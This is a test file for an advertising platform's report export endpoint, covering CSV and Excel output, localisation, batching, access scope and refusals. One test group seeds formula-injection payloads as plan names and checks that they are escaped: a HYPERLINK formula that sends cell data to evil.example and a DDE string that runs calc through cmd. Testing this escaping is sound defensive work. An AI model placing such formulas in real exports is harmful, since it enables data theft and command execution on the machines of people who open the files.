/**
 * POST /svc/report/export: the files are parsed back (CSV by a small RFC 4180 reader, .xlsx
 * by exceljs) and compared with what /svc/report/query answers for the same view.
 */
import {
  ABILITY_ALL,
  Ability,
  REPORT_MESSAGES,
  canAccess,
  deriveRoles,
  exportReport,
  type ReportExportRequest,
  type ReportQuery,
  type ReportResult,
  type ReportRow,
} from '@adloom/domain';
import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEMO_ACCOUNTS } from '../../db/seed.js';
import { buildPlan } from '../../test/ad-factories.js';
import { createTestApp, type TestApp } from '../../test/app.js';
import { REPORT_FILE_SAMPLES } from '../../test/samples/report.js';
import { buildSession, buildUser } from '../../test/factories.js';
import { api } from '../../test/http.js';
import { EXPORT_BATCH_ROWS } from './export-route.js';
import { microsToUnits, ratioToPercent } from './export.js';
import { ADVERTISER, DAYS, seedReportFixture, type ReportFixture } from './test-kit.js';

let t: TestApp;
let f: ReportFixture;
let tokenA: string;
let tokenSystem: string;

beforeAll(async () => {
  t = await createTestApp();
  f = await seedReportFixture(t.db, 'T');
  tokenA = await buildSession(t.db, f.a.user.id);
  tokenSystem = await buildSession(t.db, (await buildUser(t.db, { ability: ABILITY_ALL })).id);
});
afterAll(async () => {
  await t.close();
});

const VIEW = {
  dimensions: ['date', 'country'],
  metrics: ['request', 'fr', 'imp', 'ctr', 'cost', 'cpm'],
  from: DAYS[0],
  to: DAYS[2],
} satisfies Partial<ReportQuery>;

async function exportFile(
  token: string | undefined,
  body: ReportExportRequest,
  headers: Record<string, string> = {},
  url = '/svc/report/export',
) {
  const response = await t.app.inject({
    method: 'POST',
    url,
    headers: {
      ...(token ? { 'x-token': token } : {}),
      'content-type': 'application/json',
      ...headers,
    },
    payload: JSON.stringify(body),
  });
  return response;
}

async function queryRows(token: string, body: ReportQuery): Promise<ReportResult> {
  const result = await api<ReportResult>(t.app, {
    method: 'POST',
    url: '/svc/report/query',
    token,
    body: { ...body, size: 500 },
  });
  expect(result.body.code).toBe(200);
  return result.body.data;
}

/** RFC 4180: quoted fields may hold commas, quotes ("") and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const char = text[index];
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        field += '"';
        index += 1;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(field);
      field = '';
    } else if (char === '\n' || char === '\r') {
      if (char === '\r' && text[index + 1] === '\n') index += 1;
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else field += char;
  }
  if (field !== '' || row.length > 0) rows.push([...row, field]);
  return rows;
}

const csvOf = (row: ReportRow, keys: string[], money: string[], ratios: string[]) =>
  keys.map((key) => {
    const value = row[key];
    if (value === null || value === undefined) return '';
    if (money.includes(key)) return microsToUnits(Number(value));
    if (ratios.includes(key)) return ratioToPercent(Number(value));
    return String(value);
  });

describe('POST /svc/report/export', () => {
  it('writes the CSV: English headers, the query’s rows, money in units, ratios in %, totals last', async () => {
    const response = await exportFile(tokenA, { ...VIEW, format: 'csv' });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="report_${DAYS[0]}_${DAYS[2]}.csv"`,
    );
    const text = response.body;
    expect(text.startsWith('\ufeff')).toBe(true);
    const [header, ...rows] = parseCsv(text.slice(1));
    expect(header).toEqual([
      'Date',
      'Country code',
      'Country',
      'Requests',
      'Fill rate (%)',
      'Impressions',
      'CTR (%)',
      'Cost (USD)',
      'eCPM (USD)',
    ]);
    const query = await queryRows(tokenA, VIEW);
    const keys = ['date', 'country', 'country_name', 'request', 'fr', 'imp', 'ctr', 'cost', 'cpm'];
    const money = ['cost', 'cpm'];
    const ratios = ['fr', 'ctr'];
    expect(rows).toEqual([
      ...query.list.map((row) => csvOf(row, keys, money, ratios)),
      ['Total', '', '', ...csvOf(query.totals, keys.slice(3), money, ratios)],
    ]);
    // Spot check by hand: A's first day in the first country, 2 rows of cost 1 unit each.
    expect(rows[0]).toEqual([
      DAYS[0],
      f.countries[0]?.code,
      f.countries[0]?.name,
      '2000',
      '50.00',
      '820',
      '1.22',
      '2',
      '2.439024',
    ]);
  });

  it('writes the .xlsx in Chinese (language cookie): numbers as numbers, ratios shown as %', async () => {
    const response = await exportFile(
      tokenA,
      { ...VIEW, format: 'xlsx' },
      { cookie: 'sidebarStatus=1; language=zh', 'accept-language': 'en-US' },
    );
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    expect(response.headers['content-disposition']).toContain(`report_${DAYS[0]}_${DAYS[2]}.xlsx`);
    const workbook = new ExcelJS.Workbook();
    // exceljs types its argument as the older Buffer typing.
    await workbook.xlsx.load(
      response.rawPayload as unknown as Parameters<typeof workbook.xlsx.load>[0],
    );
    const sheet = workbook.getWorksheet('报表');
    expect(sheet).toBeDefined();
    const values: unknown[][] = [];
    sheet?.eachRow((row) => values.push((row.values as unknown[]).slice(1)));
    expect(values[0]).toEqual([
      '日期',
      '国家代码',
      '国家',
      '请求数',
      '填充率 (%)',
      '展示数',
      '点击率 (%)',
      '花费 (USD)',
      'eCPM (USD)',
    ]);
    const query = await queryRows(tokenA, VIEW);
    const cells = (row: ReportRow) => [
      row.request,
      row.fr,
      row.imp,
      row.ctr,
      Number(row.cost) / 1_000_000,
      Number(row.cpm) / 1_000_000,
    ];
    expect(values.slice(1)).toEqual([
      ...query.list.map((row) => [row.date, row.country, row.country_name, ...cells(row)]),
      ['合计', null, null, ...cells(query.totals)].map((cell) => cell ?? undefined),
    ]);
    expect(sheet?.getRow(2).getCell(5).numFmt).toBe('0.00%');
    expect(sheet?.getRow(2).getCell(8).numFmt).toBe('#,##0.00####');
  });

  it('takes the language from the body first, then Accept-Language', async () => {
    const body: ReportExportRequest = {
      ...VIEW,
      metrics: ['imp'],
      dimensions: ['plan'],
      format: 'csv',
    };
    const zh = await exportFile(tokenA, body, { 'accept-language': 'zh-CN,zh;q=0.9' });
    expect(parseCsv(zh.body.slice(1))[0]).toEqual(['计划ID', '计划', '展示数']);
    const en = await exportFile(tokenA, { ...body, lang: 'en' }, { cookie: 'language=zh' });
    expect(parseCsv(en.body.slice(1))[0]).toEqual(['Plan ID', 'Plan', 'Impressions']);
  });

  it('writes one row and no second totals row without dimensions', async () => {
    const response = await exportFile(tokenA, {
      ...VIEW,
      dimensions: [],
      metrics: ['imp'],
      format: 'csv',
    });
    expect(parseCsv(response.body.slice(1))).toEqual([['Impressions'], ['5040']]);
  });

  it('streams every row past one cursor batch', async () => {
    const user = await buildUser(t.db, { ability: ADVERTISER });
    const groups = EXPORT_BATCH_ROWS + 345;
    await t.db.execute(sql`
      insert into stats_hourly (hour, advertiser_id, app_version, impressions, cost)
      select '2025-04-01T10:00:00Z', ${user.id}, 'v' || n, n, 1000 * n
      from generate_series(1, ${groups}) as n`);
    const response = await exportFile(await buildSession(t.db, user.id), {
      dimensions: ['app'],
      metrics: ['imp', 'cost'],
      from: '2025-04-01',
      to: '2025-04-01',
      sort: 'imp',
      order: 'desc',
      format: 'csv',
    });
    const [, ...rows] = parseCsv(response.body.slice(1));
    expect(rows).toHaveLength(groups + 1);
    expect(rows[0]).toEqual([`v${groups}`, String(groups), microsToUnits(1000 * groups)]);
    expect(rows.at(-2)).toEqual(['v1', '1', '0.001']);
    const impressions = (groups * (groups + 1)) / 2;
    expect(rows.at(-1)).toEqual(['Total', String(impressions), microsToUnits(1000 * impressions)]);
  });

  it('keeps the scope: an advertiser exports its own rows only, the acting user by proxy', async () => {
    const body: ReportExportRequest = {
      ...VIEW,
      dimensions: ['advertiser'],
      metrics: ['cost'],
      format: 'csv',
    };
    const own = parseCsv((await exportFile(tokenA, body)).body.slice(1));
    expect(own.slice(1, -1).map((row) => row[0])).toEqual([String(f.a.user.id)]);
    const agentToken = await buildSession(t.db, f.agent.id);
    const proxied = parseCsv(
      (await exportFile(agentToken, body, {}, `/svc/report/export?user=${f.b.user.id}`)).body.slice(
        1,
      ),
    );
    expect(proxied.slice(1, -1).map((row) => row[0])).toEqual([String(f.b.user.id)]);
  });

  it('answers the envelope when refused: no token, a role without reports, supply scope, bad input', async () => {
    const body = { ...VIEW, format: 'csv' } as const;
    const anonymous = await exportFile(undefined, body);
    expect(anonymous.statusCode).toBe(401);
    expect(anonymous.json()).toMatchObject({ code: -100 });
    const slotUser = await buildUser(t.db, { ability: Ability.login | Ability.slot });
    const refused = await exportFile(await buildSession(t.db, slotUser.id), body);
    expect(refused.statusCode).toBe(403);
    expect(refused.json()).toMatchObject({ code: -110 });
    const supply = await exportFile(tokenA, { ...body, scope: 'supply' });
    expect(supply.json()).toMatchObject({ code: -110 });
    const badFormat = await exportFile(tokenA, { ...body, format: 'pdf' as 'csv' });
    expect(badFormat.statusCode).toBe(400);
    expect(badFormat.json().data.fields).toEqual([expect.objectContaining({ path: 'format' })]);
    const badValue = await exportFile(tokenA, {
      ...body,
      filters: [{ dimension: 'plan', mode: 'include', values: ['x'] }],
    });
    expect(badValue.json().data.fields).toMatchObject([
      { path: 'filters.0.values.0', message: REPORT_MESSAGES.id.en },
    ]);
    const media = await exportFile(tokenA, { ...body, dimensions: ['media'] });
    expect(media.json()).toMatchObject({
      code: -120,
      data: { fields: [{ path: 'dimensions.0' }] },
    });
  });

  it('exports the supply side for the system', async () => {
    const response = await exportFile(tokenSystem, {
      ...VIEW,
      scope: 'supply',
      dimensions: ['dsp'],
      metrics: ['income'],
      filters: [{ dimension: 'media', mode: 'include', values: f.media.map((m) => String(m.id)) }],
      format: 'csv',
    });
    const rows = parseCsv(response.body.slice(1));
    expect(rows[0]).toEqual(['DSP ID', 'DSP', 'Income (USD)']);
    const supplyIncome = f.supplyRows.reduce((sum, row) => sum + row.income, 0);
    expect(rows.find((row) => row[0] === String(f.dsp.id))).toEqual([
      String(f.dsp.id),
      f.dsp.name,
      microsToUnits(supplyIncome),
    ]);
  });
});

describe('POST /svc/report/export: names that look like formulas', () => {
  // OWASP's triggers, as an advertiser could name its plans; and two names left alone.
  const HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
  ];
  const HARMLESS = ['Plain plan', 'a=b+c'];
  let token: string;
  let planIds: number[];

  beforeAll(async () => {
    const user = await buildUser(t.db, { ability: ADVERTISER });
    token = await buildSession(t.db, user.id);
    planIds = [];
    for (const [index, name] of [...HOSTILE, ...HARMLESS].entries()) {
      const plan = await buildPlan(t.db, user.id, { name });
      planIds.push(plan.id);
      await t.db.execute(sql`
        insert into stats_hourly (hour, advertiser_id, plan_id, app_version, impressions, cost)
        values ('2025-05-01T10:00:00Z', ${user.id}, ${plan.id}, ${name}, ${index + 1},
                ${index === 0 ? -1_500_000 : 1_000_000})`);
    }
  });

  const view = (format: 'csv' | 'xlsx', dimension: 'plan' | 'app') =>
    ({
      dimensions: [dimension],
      metrics: ['imp', 'cost'],
      from: '2025-05-01',
      to: '2025-05-01',
      sort: 'imp',
      order: 'asc',
      format,
      lang: 'en',
    }) satisfies ReportExportRequest;

  it('prefixes a single quote in the CSV; a genuine negative amount stays a number', async () => {
    const response = await exportFile(token, view('csv', 'plan'));
    const [, ...rows] = parseCsv(response.body.slice(1));
    expect(rows.slice(0, -1).map((row) => row[1])).toEqual([
      ...HOSTILE.map((name) => `'${name}`),
      ...HARMLESS,
    ]);
    expect(rows[0]).toEqual([String(planIds[0]), `'${HOSTILE[0]}`, '1', '-1.5']);
    const app = parseCsv((await exportFile(token, view('csv', 'app'))).body.slice(1));
    expect(app.slice(1, -1).map((row) => row[0])).toEqual([
      ...HOSTILE.map((name) => `'${name}`),
      ...HARMLESS,
    ]);
  });

  it('writes the quoted names as text in the .xlsx and amounts as numbers', async () => {
    const response = await exportFile(token, view('xlsx', 'plan'));
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(
      response.rawPayload as unknown as Parameters<typeof workbook.xlsx.load>[0],
    );
    const values: unknown[][] = [];
    workbook.worksheets[0]?.eachRow((row) => values.push((row.values as unknown[]).slice(1)));
    const rows = values.slice(1, -1);
    // XML reads a raw carriage return back as a line feed.
    expect(rows.map((row) => row[1])).toEqual([
      ...HOSTILE.map((name) => `'${name.replace('\r', '\n')}`),
      ...HARMLESS,
    ]);
    expect(rows[0]).toEqual([planIds[0], `'${HOSTILE[0]}`, 1, -1.5]);
    expect(rows.every((row) => typeof row[1] === 'string')).toBe(true);
  });
});

describe('POST /svc/report/export: documentation', () => {
  it('is in the OpenAPI document with its body', async () => {
    const response = await t.app.inject({ url: '/docs/json' });
    const document = response.json() as {
      paths: Record<string, { post?: { requestBody?: unknown; tags?: string[] } }>;
    };
    const operation = document.paths['/svc/report/export']?.post;
    expect(operation?.tags).toEqual(['reports']);
    expect(JSON.stringify(operation?.requestBody)).toContain('xlsx');
  });
});

describe('POST /svc/report/export: every demo role', () => {
  const abilities = [...new Set(DEMO_ACCOUNTS.map((account) => account.ability))];
  it.each(abilities.map((ability) => [ability] as const))('ability %i', async (ability) => {
    const user = await buildUser(t.db, { ability });
    const other = await buildUser(t.db);
    const { body } = await REPORT_FILE_SAMPLES.exportReport({ user, other, db: t.db });
    const response = await exportFile(
      await buildSession(t.db, user.id),
      body as ReportExportRequest,
    );
    if (canAccess(exportReport.access, deriveRoles(ability))) {
      expect(response.statusCode).toBe(200);
      expect(parseCsv(response.body.slice(1))[0]?.[0]).toBe('Date');
    } else {
      expect(response.statusCode).toBe(403);
      expect(response.json()).toMatchObject({ code: -110, msg: 'Access deni, check again.' });
    }
  });
});
